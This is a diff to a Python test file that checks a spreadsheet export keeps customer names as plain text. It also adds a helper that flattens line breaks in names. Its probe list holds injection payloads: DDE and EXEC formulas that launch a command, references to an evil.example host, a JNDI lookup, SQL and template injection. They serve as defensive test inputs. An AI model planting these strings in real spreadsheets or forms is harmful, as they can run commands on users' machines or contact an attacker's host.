@@ -29,8 +29,8 @@ TEXTS = (
     '=DDE("cmd";"/C calc";"x")', '=DDEAUTO("cmd","/C calc")', "DDE cmd /C calc", "=MSEXCEL|'\\..\\..\\cmd.exe'!A0",
     '=EXEC("calc")', '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","calc")', "=REGISTER.ID(1)",
     "=A1:A9", "{=1+1}", "=SUM(tblCustomers[今年业绩（万元）])", "=[evil.xlsx]Sheet1!A1", "='http://evil.example/[x]S'!A1",
-    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', '"=1+1",2', ";=1+1", ",=1+1", "|=1+1",
-    "=1+1\n=2+2", "a\t=1+1", "a\r\n=1+1", "%0A=1+1", "=1+1--", "=#REF!", "TRUE!", "1E5x",
+    "＝1+2", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1"', '"=1+1",2', ";=1+1", ",=1+1", "|=1+1",
+    "=1+1\n=2+2", "a\t=1+1", "b\r\n=1+1", "%0A=1+1", "=1+1--", "=#REF!", "TRUE!", "1E5x",
     "<f>1+1</f>", "</t></si><f>1+1</f>", '" t="str"><f>1+1</f>', "]]><f>1+1</f>", "&lt;f&gt;", "&#61;1+1", "_x003D_1+1",
     "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%n", "'; DROP TABLE customers; --", "javascript:alert(1)", "公司=1+1", "=公司",
 )  # fmt: skip
@@ -130,6 +130,11 @@ def cleaned(text: str) -> str:
     return text.replace("\r\n", "\n").strip()
 
 
+def named(text: str) -> str:
+    """A customer's name stands on one line: a line end or a tab within it is a space."""
+    return " ".join(cleaned(text).split())
+
+
 def read(value: object) -> str:
     """A cell's text; the file format spells some characters ``_x000D_``, which openpyxl shows as stored."""
     return cleaned(re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), str(value)))
@@ -163,7 +168,8 @@ def test_nothing_leads_out_of_the_book(book: bytes) -> None:
 def test_a_text_is_read_back_unchanged_and_as_text(book: bytes, table: str, key: str) -> None:
     cells = column(book, table, key)
     assert {cell.data_type for cell in cells} == {"s"}
-    assert [read(cell.value) for cell in cells] == [cleaned(text) for text in TEXTS]
+    shown = named if (table, key) in {("customers", "name"), ("orders", "customer")} else cleaned
+    assert [read(cell.value) for cell in cells] == [shown(text) for text in TEXTS]
 
 
 @pytest.mark.parametrize(
@@ -172,7 +178,7 @@ def test_a_text_is_read_back_unchanged_and_as_text(book: bytes, table: str, key:
 def test_a_name_is_text_wherever_a_command_carries_it(book: bytes, table: str, key: str) -> None:
     cells = column(book, table, key)
     assert {cell.data_type for cell in cells if cell.value} == {"s"}
-    assert {cleaned(text) for text in TEXTS} <= {read(cell.value) for cell in cells}
+    assert {named(text) for text in TEXTS} <= {read(cell.value) for cell in cells}
 
 
 def test_a_name_typed_into_again_stays_text(book: bytes) -> None:
@@ -183,6 +189,6 @@ def test_a_name_typed_into_again_stays_text(book: bytes) -> None:
 def test_the_dashboard_and_its_charts_show_the_names_as_text(book: bytes) -> None:
     assert not charts.wrong_points(book)
     board = run_books.load(book)["看板"]
-    shown = [cell for row in board.iter_rows() for cell in row if read(cell.value) in map(cleaned, TEXTS)]
+    shown = [cell for row in board.iter_rows() for cell in row if read(cell.value) in map(named, TEXTS)]
     assert len(shown) >= 10
     assert {cell.data_type for cell in shown} == {"s"}
